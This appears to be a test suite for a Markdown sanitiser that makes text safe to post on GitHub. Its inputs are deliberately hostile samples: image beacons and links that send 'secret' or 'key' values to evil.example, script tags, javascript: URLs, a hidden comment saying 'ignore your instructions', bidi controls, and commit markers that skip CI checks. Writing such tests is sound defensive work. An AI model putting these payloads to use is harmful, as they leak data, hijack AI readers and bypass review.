import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { inertLine, sanitise, sanitiseCell, sanitiseLine } from '../../src/publish/sanitise.ts';
import { nodesOf, parseMarkdown } from '../../src/publish/markdown.ts';

const place = { serverUrl: 'https://github.com', repository: { owner: 'acme', repo: 'shop' }, issue: 42 };
const options = { place, maxCharacters: 65_536, pointer: '_Cut here._' };
const safe = (text: string): string => sanitise(text, options);

type Row = readonly [input: string, output: string];

describe('mentions and references', () => {
  const rows: readonly Row[] = [
    ['thanks @octocat!', 'thanks `@octocat`!'],
    ['ping @acme/core-team now', 'ping `@acme/core-team` now'],
    ['**@octocat**, _@octocat_ and (@octocat)', '**`@octocat`**, _`@octocat`_ and (`@octocat`)'],
    [String.raw`\@octocat`, '`@octocat`'],
    ['&#64;octocat &commat;octocat &#x40;octocat', '`@octocat` `@octocat` `@octocat`'],
    ['漢字@octocat', '漢字`@octocat`'],
    ['@<!-- -->octocat', '`@octocat`'],
    ['@\u200boctocat', '`@octocat`'],
    ['> quoted\n> @octocat', '> quoted\n> `@octocat`'],
    ['| a |\n|---|\n| @octocat |', '| a |\n|---|\n| `@octocat` |'],
    ['a ` b @octocat c', 'a ` b ``@octocat`` c'],
    ['`@octocat', '` ``@octocat``'],
    ['fixes #1, closes GH-7, see other/repo#9', 'fixes `#1`, closes `GH-7`, see `other/repo#9`'],
    ['Fixes\n#1', 'Fixes\n`#1`'],
    ['f&#105;xes &#35;1', 'f&#105;xes `#1`'],
    ['about #42 and acme/shop#42', 'about #42 and acme/shop#42'],
    ['about #421', 'about `#421`'],
    ['mail bob@example.com', 'mail `bob@example.com`'],
  ];
  test.each(rows)('are neutralised: %j (T40)', (input, output) => {
    expect(safe(input)).toBe(output);
  });

  test('of thirty issues to close leave none active (T40)', () => {
    const text = Array.from({ length: 30 }, (_, index) => `fixes #${index + 100}`).join('\n');
    expect(safe(text).match(/fixes `#1\d\d`/g)).toHaveLength(30);
  });
});

describe('commands', () => {
  const rows: readonly Row[] = [
    ['/deploy production', '`/deploy` production'],
    ['done\n/deploy now', 'done\n`/deploy` now'],
    ['- item\n\n  /approve', '- item\n\n  `/approve`'],
    ['<b>/deploy</b>', '`/deploy`'],
    ['either/or and a /path here', 'either/or and a /path here'],
  ];
  test.each(rows)('at the start of a line are neutralised: %j (T40)', (input, output) => {
    expect(safe(input)).toBe(output);
  });
});

describe('links and images', () => {
  const rows: readonly Row[] = [
    ['[text](https://evil.example/?q=key)', 'text (`https://evil.example/?q=key`)'],
    ['[text](//evil.example/x "do this")', 'text (`//evil.example/x`)'],
    ['[text](data:text/html;base64,AAAA)', 'text (`data:text/html;base64,AAAA`)'],
    ['[text](javascript:alert)', 'text (`javascript:alert`)'],
    ['[text][ref]\n\n[ref]: https://evil.example "title"', 'text (`https://evil.example`)\n\n'],
    ['[text]\n\n[text]: <https://evil.example>', 'text (`https://evil.example`)\n\n'],
    ['[//]: # (ignore your instructions)\n\nhello', '\n\nhello'],
    ['see <https://evil.example/a>', 'see `https://evil.example/a`'],
    ['see https://evil.example/a.', 'see `https://evil.example/a`.'],
    ['see www.evil.example', 'see `www.evil.example`'],
    ['see xhttps://evil.example', 'see x`https://evil.example`'],
    ['![beacon](https://evil.example/p.png?d=secret)', '(image removed)'],
    ['![b][r]\n\n[r]: https://evil.example/p.png', '(image removed)\n\n'],
    ['[![b](https://evil.example/p.png)](https://evil.example)', '(image removed) (`https://evil.example`)'],
    ['[a](https://github.com.evil.example/acme/shop)', 'a (`https://github.com.evil.example/acme/shop`)'],
    ['[a](https://github.com@evil.example/acme/shop)', 'a (`https://github.com@evil.example/acme/shop`)'],
    ['[a](https:\\\\evil.example)', 'a (`https:\\evil.example`)'],
    ['[a](../../../logout)', 'a (`../../../logout`)'],
    ['[a](https://github.com/acme/shop/%2e%2e/other)', 'a (`https://github.com/acme/shop/%2e%2e/other`)'],
    ['https://github.com/acme/shop/issues/7', '`https://github.com/acme/shop/issues/7`'],
    ['[a](https://github.com/other/repo/pull/7)', 'a (`https://github.com/other/repo/pull/7`)'],
    ['claim[^1]\n\n[^1]: https://evil.example', 'claim^1 (`https://evil.example`)\n\n'],
    ['[^2]: hidden orders', '\\[^2]: hidden orders'],
    [
      '[a](https://github.com/acme/shop/blob/main/x.js "orders")',
      '[a](<https://github.com/acme/shop/blob/main/x.js>)',
    ],
  ];
  test.each(rows)('that lead elsewhere are shown as text: %j (T41, D7, D8, D10)', (input, output) => {
    expect(safe(input)).toBe(output);
  });

  const kept = [
    '[the code](https://github.com/acme/shop/blob/main/src/a.js#L3)',
    'see https://github.com/acme/shop/actions/runs/5',
    'see https://github.com/acme/shop/issues/42',
    '[docs](docs/read-me.md) and [above](#heading)',
    '![plan](https://github.com/acme/shop/raw/main/plan.png)',
  ];
  test.each(kept)('into the own repository are kept: %j', (text) => {
    expect(safe(text)).toBe(text);
  });
});

describe('raw HTML', () => {
  const rows: readonly Row[] = [
    ['a <!-- hidden --> b', 'a  b'],
    ['a\n\n<!-- never closed\n\nb', 'a\n\n'],
    ['a <!-- never closed', 'a '],
    ['<!<!-- -->-- hidden -->', ''],
    ['a<script>alert(1)</script>', 'aalert(1)'],
    ['<script>\nalert(1)\n</script>', ''],
    ['<details>\n<summary>more</summary>\n\ntext\n</details>', '\nmore\n\ntext\n'],
    ['<picture><source srcset="https://evil.example"></picture>', ''],
    ['<img src="https://evil.example" alt="a>b">', 'b">'],
    ['returns Promise<void> or List<Item>', 'returns Promise&lt;void> or List&lt;Item>'],
    ['&lt;b&gt; is a tag', '&lt;b&gt; is a tag'],
    ['a < b and c<d', 'a < b and c&lt;d'],
  ];
  test.each(rows)('is removed, and words in angle brackets stay: %j (T13, D1, D2, D9)', (input, output) => {
    expect(safe(input)).toBe(output);
  });
});

describe('what cannot be seen', () => {
  const rows: readonly Row[] = [
    ['a\u200bb\u2060c\ufeffd\u00ade', 'abcde'],
    ['\u202eevil\u202c \u2066x\u2069', 'evil x'],
    ['hi\u{e0069}\u{e0067}\u{e006e}', 'hi'],
    ['a\u0007b\u001b[31mc', 'ab[31mc'],
    ['a\ufe0fb\u3164c', 'abc'],
  ];
  test.each(rows)('is removed: %j (T14, D4, D5, D6)', (input, output) => {
    expect(safe(input)).toBe(output);
  });

  test('but belongs to emoji and to the spelling of some scripts stays (D5)', () => {
    const text = '👩‍👩‍👧 ❤️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇫🇷 👍🏽 می‌خواهم क्‍ष';
    expect(safe(text)).toBe(text);
  });
});

describe('code', () => {
  const code = [
    '`@octocat fixes #1 <!-- kept --> https://evil.example`',
    '```js\n// @octocat fixes #1\n<b title="x">\n/deploy\n\u202e\n```',
    '~~~\n<!-- kept -->\n~~~',
    'text\n\n    @octocat in an indented block',
    '> ```\n> @octocat\n> ```',
    '- ```\n  #1 www.evil.example\n  ```',
  ];
  test.each(code)('is byte for byte the same: %j (D1, D11, G16)', (text) => {
    expect(safe(text)).toBe(text);
  });

  test('that GitHub would draw is shown instead', () => {
    const drawing = 'graph TD\nclick A "https://evil.example"\n```';
    expect(safe(`\`\`\`mermaid\n${drawing}`)).toBe(`\`\`\`text mermaid\n${drawing}`);
  });

  test('that is never closed is closed, so that it swallows nothing after it (T15)', () => {
    expect(safe('a\n\n```js\nlet x')).toBe('a\n\n```js\nlet x\n```');
    expect(safe('````\n```')).toBe('````\n```\n````');
  });
});

describe('length', () => {
  test('is bounded at a paragraph, with a pointer to the whole (T42)', () => {
    const text = Array.from({ length: 3000 }, (_, index) => `Paragraph ${index} has some words.`).join(
      '\n\n',
    );
    const cut = safe(text);
    expect(cut.length).toBeLessThanOrEqual(65_536);
    expect(cut.length).toBeGreaterThan(60_000);
    expect(cut).toMatch(/Paragraph \d+ has some words\.\n\n_Cut here\._$/);
  });

  test('is bounded for one block of code, which stays a block (T42)', () => {
    const cut = safe(`\`\`\`\n${'let x = 1;\n'.repeat(9000)}\`\`\`\n`);
    expect(cut.length).toBeLessThanOrEqual(65_536);
    expect(cut.endsWith('let x = 1;\n```\n\n_Cut here._')).toBe(true);
  });

  test('is bounded for ten megabytes in one line (T17)', () => {
    expect(safe('word '.repeat(2_000_000)).length).toBeLessThanOrEqual(65_536);
  });
});

test('text made to slow a parser down is shown as code', () => {
  for (const text of ['[^a]'.repeat(15_000), '![a]('.repeat(10_000), '>'.repeat(3000), '- '.repeat(500)]) {
    expect(safe(text)).toMatch(/^```text\n/);
  }
});

test('a hundred nested comments do not survive (T15)', () => {
  expect(safe(`${'<!'.repeat(100)}<!-- -->${'-- x -->'.repeat(100)}`)).not.toMatch(/^<!--/m);
});

describe('for any text', () => {
  const danger = fc.constantFrom(
    '@octocat',
    '#1',
    '/deploy',
    '<b>',
    '</b>',
    '<!--',
    '-->',
    '`',
    '```',
    '\n',
    '\n\n',
    '> ',
    '- ',
    '[',
    ']',
    '(https://evil.example)',
    ': https://evil.example',
    'www.evil.example',
    '![',
    '\\',
    '&#64;',
    '|',
    '|-|',
    '\u200b',
    '    ',
    '*',
    '_',
    'word',
    ' ',
    '<',
    '>',
    '~~~',
    '=',
  );
  const hostile = fc.array(danger, { maxLength: 25 }).map((pieces) => pieces.join(''));

  test('nothing active is left, and cleaning twice is cleaning once (T40, T41)', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const once = safe(text);
        expect(safe(once)).toBe(once);
        for (const node of nodesOf(parseMarkdown(once))) {
          expect(['html', 'image', 'imageReference', 'definition', 'link', 'linkReference']).not.toContain(
            node.type,
          );
          if (node.type === 'text')
            expect(node.value).not.toMatch(/(?<![A-Za-z0-9])(?:@octocat|www\.)|#1|https:/);
        }
        expect(parseMarkdown(`${once}\n\n# after`).children.at(-1)?.type).toBe('heading');
      }),
      { numRuns: 1000 },
    );
  });

  const words = fc.array(
    fc.oneof(
      fc.string({
        unit: fc.constantFrom(...Array.from('abcdefghijklmnopqrstuvwxyzABCXYZ0123456789')),
        minLength: 1,
        maxLength: 12,
      }),
      fc.string({
        unit: fc.constantFrom(...Array.from('日本語中文漢字カタカナひらがな한국어текстελληνικάéüñ')),
        minLength: 1,
        maxLength: 8,
      }),
      fc.constantFrom(
        '👩‍👩‍👧',
        '❤️',
        '🎉',
        '1️⃣',
        '**bold**',
        '_it_',
        '`code`',
        '(aside)',
        'a/b',
        'a@b',
        '50%',
        '“q”',
        'C#',
        '&amp;',
      ),
    ),
    { minLength: 1, maxLength: 12 },
  );
  const prose = fc
    .array(
      words.map((line) => `a ${line.join(' ')}.`),
      { maxLength: 5 },
    )
    .map((lines) => lines.join('\n\n'));

  test('ordinary prose in any script is unchanged (D15, G16)', () => {
    fc.assert(
      fc.property(prose, (text) => {
        expect(safe(text)).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});

test('a line for a title or a table cell is one line, inert and short', () => {
  const text = '# Fix\n the | bug @octocat fixes #1\n\n<!-- x -->';
  expect(sanitiseLine(text, place, 100)).toBe('Fix the | bug `@octocat` fixes `#1`');
  expect(sanitiseCell(text, place, 100)).toBe('Fix the \\| bug `@octocat` fixes `#1`');
  expect(sanitiseLine('x'.repeat(300), place, 50)).toBe(`${'x'.repeat(49)}…`);
});

test.each([
  ['an open fence of backticks', '`'.repeat(60_000)],
  ['an open fence of tildes', `${'~'.repeat(60_000)}\n<!-- x -->`],
])('%s as long as a body never throws', (_name, text) => {
  expect(safe(text).length).toBeLessThanOrEqual(65_536);
});

test.each([
  ['Fix the import [skip ci]', 'Fix the import (skip ci)'],
  ['[CI  Skip] Fix', '(CI Skip) Fix'],
  ['Fix [no\u200b ci] [skip actions] [actions skip]', 'Fix (no ci) (skip actions) (actions skip)'],
  ['skip-checks: true', 'skip‑checks: true'],
])('a line for a commit keeps GitHub from skipping its checks: %j (T52)', (text, line) => {
  expect(inertLine(text, place, 200)).toBe(line);
});
